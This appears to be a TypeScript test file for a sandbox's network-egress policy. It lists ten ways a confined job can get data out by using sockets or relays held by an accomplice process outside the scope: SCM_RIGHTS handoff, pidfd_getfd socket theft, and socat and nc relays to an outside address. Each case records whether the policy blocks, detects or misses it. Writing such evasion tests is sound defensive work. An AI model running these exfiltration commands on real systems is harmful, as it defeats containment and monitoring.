import type { Row } from '../case.ts'
import { python } from './script.ts'

/** A process outside of the scope, at a unix socket, that hands out or takes sockets. */
const giver = (make: string): string =>
  python(`
import array
listener = socket.socket(socket.AF_UNIX)
path = os.environ['SHARED'] + '/' + T
listener.bind(path)
os.chmod(path, 0o777)
listener.listen()
print('ready', file=sys.stderr, flush=True)
while True:
    c, _ = listener.accept()
    ${make}
    c.close()`)

const take = `
c = socket.socket(socket.AF_UNIX)
c.connect(os.environ['SHARED'] + '/' + T)`

const outsider = {
  result: 'not-held',
  why: 'the socket belongs to the process that made it, which is under no policy; it was handed in on purpose by an accomplice outside of the scope',
  advice:
    'an account that nothing else runs as; no services on the machine that hand sockets to strangers',
} as const

const fetched = {
  result: 'told',
  why: 'a process of the same account that holds a connection can be robbed of it; the detection is `process-memory-read` (high)',
  advice: 'an account that nothing else runs as; `kernel.yama.ptrace_scope=1`',
} as const

export const sockets: Row = {
  row: 17,
  title: 'Sockets across the border of the scope',
  cases: [
    {
      id: 'socket-handed-in',
      technique: 'connected socket from an accomplice outside (SCM_RIGHTS), written to in the job',
      outside: giver('s = tcp(WHERE4, b"."); socket.send_fds(c, [b"."], [s.fileno()])'),
      attempt: python(`${take}
_, fds, _, _ = socket.recv_fds(c, 10, 1)
os.write(fds[0], DATA)`),
      twin: python('tcp(WHERE4)'),
      by: '–',
      silent: 'no hook sees a socket that is of another cgroup',
    },
    {
      id: 'socket-handed-in-unconnected',
      technique: 'unconnected socket from an accomplice outside, connected in the job',
      outside: giver('s = made(); socket.send_fds(c, [b"."], [s.fileno()])'),
      attempt: python(`${take}
_, fds, _, _ = socket.recv_fds(c, 10, 1)
s = socket.socket(fileno=fds[0])
s.connect(WHERE4)
s.sendall(DATA)`),
      twin: python('tcp(WHERE4)'),
      by: '–',
      silent: 'no hook sees a socket that is of another cgroup',
    },
    {
      id: 'socket-handed-out',
      silent: 'told of the accomplice, whose process is none of the job’s',
      technique: 'socket made in the job, connected and written to by an accomplice outside',
      outside: giver(
        '_, fds, _, _ = socket.recv_fds(c, 10, 1); s = socket.socket(fileno=fds[0])\n    try: s.connect(WHERE4); s.sendall(DATA)\n    except OSError as error: print(error)',
      ),
      attempt: python(`${take}
s = made()
socket.send_fds(c, [b'.'], [s.fileno()])
c.recv(1)
raise SystemExit(9)`),
      twin: python('tcp(WHERE4)'),
      by: 'connect: a socket is judged by the scope that it was made in',
    },
    {
      id: 'socket-handed-out-udp',
      silent: 'told of the accomplice, whose process is none of the job’s',
      technique: 'UDP socket made in the job, used by an accomplice outside',
      outside: giver(
        '_, fds, _, _ = socket.recv_fds(c, 10, 1); s = socket.socket(fileno=fds[0])\n    try: s.sendto(DATA, WHERE4)\n    except OSError as error: print(error)',
      ),
      attempt: python(`${take}
s = made(kind=socket.SOCK_DGRAM)
socket.send_fds(c, [b'.'], [s.fileno()])
c.recv(1)
raise SystemExit(9)`),
      twin: python('udp(WHERE4)'),
      by: 'connect: a socket is judged by the scope that it was made in',
    },
    {
      id: 'socket-fetched',
      technique: 'socket fetched out of a process of the same account outside (pidfd_getfd)',
      outside: python(`
import ctypes
ctypes.CDLL(None).prctl(0x59616d61, -1, 0, 0, 0)
# Not the case's own address: what counts is what the job writes.
s = tcp(('203.0.113.67', PORT), b'.')
with open(os.environ['SHARED'] + '/pid.' + T, 'w') as file: file.write('%d %d' % (os.getpid(), s.fileno()))
print('ready', file=sys.stderr, flush=True)
time.sleep(600)`),
      attempt: python(`
pid, number = map(int, open(os.environ['SHARED'] + '/pid.' + T).read().split())
libc = ctypes.CDLL(None, use_errno=True)
handle = libc.syscall(434, pid, 0)
fd = libc.syscall(438, handle, number, 0)
if fd < 0: raise OSError(ctypes.get_errno(), 'pidfd_getfd')
os.write(fd, DATA)`),
      twin: python('tcp(WHERE4)'),
      by: 'told: `process-memory-read`',
      user: fetched,
      root: fetched,
    },
    {
      id: 'socket-of-parent-scope',
      technique: 'socket of a process that was in the job and stays in the background',
      attempt: `(exec 3<>/dev/tcp/$D4/8080 && echo "$T" >&3) & wait $!`,
      by: 'connect: `EPERM`',
    },
    {
      id: 'relay-loopback-tcp',
      technique: 'relay of an accomplice outside on 127.0.0.1, TCP',
      outside: `socat TCP-LISTEN:27\${T:5:2}1,bind=127.0.0.1,fork,reuseaddr TCP:$D4:8080 & sleep 0.3; echo ready >&2; wait`,
      attempt: `echo "$T" | nc -N -w 2 127.0.0.1 27\${T:5:2}1`,
      twin: 'echo "$T" | nc -N -w 2 $D4 8080',
      by: '–',
      silent: 'an allowed connection to loopback, and no more',
    },
    {
      id: 'relay-loopback-udp',
      technique: 'relay of an accomplice outside on 127.0.0.1, UDP',
      outside: `socat UDP-LISTEN:27\${T:5:2}2,bind=127.0.0.1,fork UDP:$D4:8080 & sleep 0.3; echo ready >&2; wait`,
      attempt: `echo "$T" | nc -u -q 0 -w 1 127.0.0.1 27\${T:5:2}2`,
      twin: 'echo "$T" | nc -u -q 0 -w 1 $D4 8080',
      by: '–',
      silent: 'an allowed connection to loopback, and no more',
    },
    {
      id: 'relay-unix',
      technique: 'relay of an accomplice outside on a unix socket',
      outside: `socat UNIX-LISTEN:$SHARED/relay.$T,fork,mode=777 TCP:$D4:8080 & sleep 0.3; echo ready >&2; wait`,
      attempt: 'echo "$T" | socat -t 1 - UNIX-CONNECT:$SHARED/relay.$T',
      twin: 'echo "$T" | socat -t 1 - TCP:$D4:8080',
      by: '–',
      silent: 'unix sockets are no network',
    },
    {
      id: 'relay-file',
      technique: 'accomplice outside that sends what is written to a file',
      outside: `(for i in {1..3000}; do [ -s "$SHARED/drop.$T" ] && cat "$SHARED/drop.$T" | nc -N -w 2 $D4 8080 && exit; sleep 0.05; done) & echo ready >&2; wait`,
      attempt: 'echo "$T" >"$SHARED/drop.$T"; sleep 1',
      twin: 'echo "$T" | nc -N -w 2 $D4 8080',
      by: '–',
      silent: 'a file like any other',
    },
  ].map((one) => (one.by === '–' ? Object.assign(one, { user: outsider, root: outsider }) : one)),
}
